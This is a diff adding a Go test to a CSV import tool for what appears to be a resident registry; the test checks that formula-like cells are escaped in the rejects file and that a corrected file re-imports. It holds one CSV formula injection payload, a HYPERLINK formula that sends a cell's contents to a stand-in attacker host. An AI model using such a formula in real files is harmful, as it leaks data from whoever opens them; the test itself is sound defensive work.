@@ -451,3 +451,47 @@ func TestImportHeadRowAgain(t *testing.T) {
 		}
 	})
 }
+
+// TestRejectsFileIsSafeInSpreadsheets rejects a row whose cells would run as
+// formulas in Excel: the rejects file carries them as text, and a corrected
+// rejects file imports with the values as they were.
+func TestRejectsFileIsSafeInSpreadsheets(t *testing.T) {
+	st := ikdtest.NewStore(t)
+	p := person(0)
+	p["NIK"] = "12345" // rejected
+	p["NAMA_LGKP"] = `=HYPERLINK("http://evil.example/?"&F2,"klik")`
+	p["NO_HP"] = "+6281234567890"
+	var rejects bytes.Buffer
+	rep := mustImport(t, st, csvFile(',', allColumns, p), Options{Rejects: &rejects})
+	if rep.Rejected != 1 {
+		t.Fatalf("rejected %d, want 1", rep.Rejected)
+	}
+	recs, err := csv.NewReader(&rejects).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	row := strings.Join(recs[1], "|")
+	if !strings.Contains(row, `|'=HYPERLINK(`) || !strings.Contains(row, "|'+6281234567890") {
+		t.Fatalf("formula cells not guarded in the rejects file: %s", row)
+	}
+	// Correct the NIK and import the rejects file itself.
+	for i, h := range recs[0] {
+		if h == "NIK" {
+			recs[1][i] = person(0)["NIK"]
+		}
+		if h == "NAMA_LGKP" {
+			recs[1][i] = "SITI AMINAH"
+		}
+	}
+	var fixed bytes.Buffer
+	csv.NewWriter(&fixed).WriteAll(recs)
+	rep = mustImport(t, st, fixed.String(), Options{})
+	if rep.Imported != 1 {
+		t.Fatalf("re-import of the corrected rejects file: %+v", rep)
+	}
+	got, err := st.GetPenduduk(context.Background(), person(0)["NIK"])
+	// The guarded phone number '+62... comes back as +62... and is normalised.
+	if err != nil || got.Telepon != "081234567890" || got.Nama != "SITI AMINAH" {
+		t.Errorf("re-imported resident: %q %q, %v", got.Nama, got.Telepon, err)
+	}
+}
